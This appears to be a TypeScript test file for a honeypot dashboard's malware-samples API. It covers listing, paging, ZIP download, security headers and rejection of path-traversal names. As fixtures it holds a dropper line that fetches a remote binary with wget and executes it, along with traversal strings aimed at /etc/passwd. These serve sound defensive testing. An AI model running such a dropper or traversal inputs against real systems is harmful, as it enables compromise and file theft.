// Samples through the API: what is said of each, the ZIP that unzip opens, and what is not given out.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ask, Dashboard, sessionEvents, stopAll } from '../../test/web/dashboard.ts';
import { elfHeader } from '../../test/web/samples.ts';
import { Chain } from '../journal/chain.ts';
import * as schema from './schema.ts';

const START = Date.UTC(2026, 7, 21, 12);
const HOUR = 3_600_000;
const hashOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

const bot = Buffer.concat([elfHeader(62, 2, 1), randomBytes(200_000)]);
const script = Buffer.from('#!/bin/sh\nwget http://198.51.100.9/bot; chmod 777 bot; ./bot\n');
const gone = 'd'.repeat(64);
const linked = 'e'.repeat(64);
const hostile = '../../../etc/passwd<script>';

let dashboard: Dashboard;
before(async () => {
  dashboard = await Dashboard.start();
  const downloads = join(dashboard.data, 'downloads');
  mkdirSync(downloads);
  for (const bytes of [bot, script]) writeFileSync(join(downloads, hashOf(bytes)), bytes);
  symlinkSync('/etc/passwd', join(downloads, linked));
  const came = (hour: number, address: string, fields: Record<string, unknown>) =>
    dashboard.append(
      sessionEvents(
        START + hour * HOUR,
        [
          { eventid: 'cowrie.session.connect' },
          { eventid: 'cowrie.session.file_download', ...fields },
          { eventid: 'cowrie.session.closed', duration: 2 },
        ],
        address,
      ),
    );
  came(0, '203.0.113.1', { shasum: hashOf(bot), url: 'http://198.51.100.9/bot', destfile: '/tmp/bot' });
  came(1, '203.0.113.2', { shasum: hashOf(script), url: 'http://198.51.100.9/sh', destfile: '/tmp/sh' });
  came(2, '203.0.113.3', { shasum: hashOf(bot), url: 'http://198.51.100.10/bot', destfile: '/var/tmp/b' });
  came(3, '203.0.113.4', { shasum: gone });
  came(4, '203.0.113.5', { shasum: linked });
  came(5, '203.0.113.6', { shasum: hostile });
  for (let hour = 6; hour < 30; hour++)
    came(hour, '203.0.113.7', { shasum: hashOf(script), url: 'http://198.51.100.9/sh' });
  dashboard.read();
});
after(stopAll);

test('what is known of each, the one first seen last first', async () => {
  const { items } = schema.samples.parse(await dashboard.json('/samples'));
  assert.deepEqual(
    items.map(({ hash, count, stored }) => [hash, count, stored]),
    [
      [hostile, 1, false],
      [linked, 1, false],
      [gone, 1, false],
      [hashOf(script), 25, true],
      [hashOf(bot), 2, true],
    ],
  );
  const { sessionId, ...last } = items.at(-1)!;
  assert.deepEqual(last, {
    hash: hashOf(bot),
    count: 2,
    firstSeen: START + 1000,
    lastSeen: START + 2 * HOUR + 1000,
    address: '203.0.113.1',
    path: '/tmp/bot',
    urls: ['http://198.51.100.9/bot', 'http://198.51.100.10/bot'],
    stored: true,
    bytes: bot.length,
    kind: 'program',
    detail: 'ELF 64-bit x86-64',
  });
  assert.equal((await dashboard.json<schema.SessionDetail>(`/sessions/${sessionId}`)).address, '203.0.113.3');
  assert.deepEqual(
    [items[3]!.kind, items[3]!.detail, items[3]!.lastSeen, items[3]!.urls],
    ['script', '/bin/sh', START + 29 * HOUR + 1000, ['http://198.51.100.9/sh']],
  );
});

test('page by page, each once', async () => {
  const found: string[] = [];
  let next: string | undefined;
  do {
    const page: schema.Samples = await dashboard.json(`/samples?limit=2${next ? `&cursor=${next}` : ''}`);
    assert.ok(page.items.length <= 2);
    found.push(...page.items.map(({ hash }) => hash));
    next = page.next;
  } while (next);
  const { items } = await dashboard.json<schema.Samples>('/samples');
  assert.deepEqual(
    found,
    items.map(({ hash }) => hash),
  );
  for (const wrong of ['limit=0', 'limit=101', 'cursor=x', 'cursor=1.-1', 'hash=1'])
    assert.equal((await dashboard.get(`/api/v1/samples?${wrong}`)).status, 400, wrong);
});

test('a sample is a ZIP that unzip opens with the password, sent as nothing a browser would show', {
  skip: existsSync('/usr/bin/unzip') ? false : 'unzip is not installed',
}, async () => {
  const folder = mkdtempSync(join(tmpdir(), 'kansatsuki-sample-'));
  for (const bytes of [bot, script]) {
    const { status, headers, body } = await dashboard.get(`/api/v1/samples/${hashOf(bytes)}`);
    assert.equal(status, 200);
    assert.equal(headers['content-type'], 'application/zip');
    assert.equal(headers['content-disposition'], `attachment; filename="${hashOf(bytes)}.zip"`);
    assert.equal(headers['content-length'], String(body.length));
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.match(String(headers['content-security-policy']), /(^|; )sandbox(;|$)/);
    assert.equal(headers['cache-control'], 'no-store');
    const zip = join(folder, 'sample.zip');
    writeFileSync(zip, body);
    const opened = spawnSync('unzip', ['-p', '-P', 'infected', zip, hashOf(bytes)], { maxBuffer: 1 << 22 });
    assert.equal(opened.status, 0, opened.stderr.toString());
    assert.deepEqual(opened.stdout, bytes);
  }
  rmSync(folder, { recursive: true });
  const url = dashboard.url(`/api/v1/samples/${hashOf(bot)}`);
  const authorization = `Bearer ${dashboard.token}`;
  const head = await ask(url, { method: 'HEAD', headers: { authorization } });
  assert.deepEqual([head.status, head.headers['content-type'], head.body.length], [200, 'application/zip', 0]);
  assert.equal((await ask(url)).status, 401);
});

test('only what lies in the vault as a plain file is given out', async () => {
  for (const [name, status] of [
    [linked, 404],
    [gone, 404],
    ['a'.repeat(64), 404],
    [hashOf(bot).toUpperCase(), 400],
    [hashOf(bot).slice(1), 400],
    [encodeURIComponent(hostile), 400],
    ['..%2f..%2fetc%2fpasswd', 400],
    [`${hashOf(bot)}%00`, 400],
  ] as const) {
    const { status: got, text } = await dashboard.get(`/api/v1/samples/${name}`);
    assert.equal(got, status, name);
    assert.match(JSON.parse(text).error, /^[^\n]+\.$/);
  }
  const chain = new Chain(join(dashboard.data, 'log'));
  chain.append({ kind: 'removed', what: 'samples', names: [gone], bytes: 3, reason: 'age' });
  const { text } = await dashboard.get(`/api/v1/samples/${gone}`);
  assert.match(JSON.parse(text).error, /^This sample was removed by retention on \d{4}-\d\d-\d\d \(age\)\.$/);
  const { items } = await dashboard.json<schema.Samples>('/samples');
  assert.deepEqual(
    items.flatMap(({ hash, removed }) => (removed ? [[hash, removed.reason]] : [])),
    [[gone, 'age']],
  );
  // Removed by hand while the dashboard runs.
  const path = join(dashboard.data, 'downloads', 'c'.repeat(64));
  writeFileSync(path, 'x');
  assert.equal((await dashboard.get(`/api/v1/samples/${'c'.repeat(64)}`)).status, 200);
  unlinkSync(path);
  assert.equal((await dashboard.get(`/api/v1/samples/${'c'.repeat(64)}`)).status, 404);
});

test('no file stays open, whether the ZIP was taken, only its head, or a part of it', {
  skip: existsSync('/proc/self/fd') ? false : 'no /proc here',
}, async () => {
  const large = Buffer.alloc(20_000_000, 7);
  const path = join(dashboard.data, 'downloads', hashOf(large));
  writeFileSync(path, large);
  const url = dashboard.url(`/api/v1/samples/${hashOf(large)}`);
  const headers = { authorization: `Bearer ${dashboard.token}` };
  assert.equal((await ask(url, { headers })).body.length, 20_000_000 + 12 + 30 + 46 + 22 + 2 * 64);
  await ask(url, { method: 'HEAD', headers });
  await new Promise<void>((resolve) => {
    const asked = request(url, { headers, agent: false }, (response) => {
      response.once('data', () => {
        asked.destroy();
        resolve();
      });
    });
    asked.on('error', () => {});
    asked.end();
  });
  const held = () =>
    readdirSync('/proc/self/fd').filter((fd) => {
      try {
        return readlinkSync(`/proc/self/fd/${fd}`) === path;
      } catch {
        return false;
      }
    });
  const deadline = Date.now() + 5000;
  while (held().length > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
  assert.deepEqual(held(), []);
  assert.deepEqual(dashboard.errors, []);
});

test('samples by kind and by origin, as a page and as a file', async () => {
  const hashes = async (query: string) => {
    const found: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await dashboard.json<schema.Samples>(`/samples?${query}${cursor ? `&cursor=${cursor}` : ''}`);
      found.push(...page.items.map(({ hash }) => hash));
      cursor = page.next;
    } while (cursor !== undefined);
    return found;
  };
  assert.deepEqual(await hashes('kind=program'), [hashOf(bot)]);
  assert.deepEqual(await hashes('kind=script&limit=1'), [hashOf(script)]);
  assert.deepEqual(await hashes('kind=gone'), [hostile, linked, gone]);
  assert.deepEqual(await hashes('origin=198.51.100.9/'), [hashOf(script), hashOf(bot)]);
  assert.deepEqual(await hashes('origin=203.0.113.5'), [linked]);
  assert.deepEqual(await hashes('kind=image'), []);
  const { text } = await dashboard.get('/api/v1/samples?format=csv&kind=program');
  const [head, ...rows] = text.trimEnd().split('\r\n');
  assert.match(head!, /^hash,kind,detail,bytes,count,firstSeen/);
  assert.deepEqual(
    rows.map((row) => row.split(',').slice(0, 2)),
    [[hashOf(bot), 'program']],
  );
  const facts = await dashboard.json<schema.Sample>(`/samples/${hashOf(bot)}/facts`);
  const { items } = await dashboard.json<schema.Samples>('/samples?kind=program');
  assert.deepEqual(facts, items[0]);
  assert.equal((await dashboard.json<schema.Sample>(`/samples/${encodeURIComponent(hostile)}/facts`)).hash, hostile);
});
